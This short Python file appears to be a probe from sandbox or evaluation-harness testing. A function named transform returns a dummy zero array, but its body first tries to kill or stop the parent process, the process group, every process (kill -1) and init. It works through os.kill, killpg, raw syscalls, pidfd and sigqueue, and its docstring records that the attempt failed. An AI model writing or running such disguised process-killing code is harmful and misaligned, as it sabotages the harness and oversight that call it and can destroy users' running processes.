"""Send signals to the parent, to the process group and to everybody.

outcome = "signals reach the process itself only"
status = ["failed"]
"""
import ctypes
import os
import signal

import numpy as np


def transform(x, w):
    libc = ctypes.CDLL(None)
    parent, done = os.getppid(), []
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        for act in (
            lambda: os.kill(parent, number), lambda: os.kill(-1, number), lambda: os.kill(0, number),
            lambda: os.killpg(os.getpgid(parent), number), lambda: os.kill(1, number),
            lambda: libc.syscall(234, parent, parent, number), lambda: libc.syscall(200, parent, number),
            lambda: libc.syscall(129, parent, number, 0), lambda: libc.syscall(297, parent, parent, number, 0),
            lambda: signal.pidfd_send_signal(os.pidfd_open(parent), number), lambda: libc.sigqueue(parent, number, 0),
        ):  # fmt: skip
            try:
                done.append(act())
            except OSError:
                continue
    if [result for result in done if result != -1]:
        print("got through:", done)
    return np.zeros((4, 3))
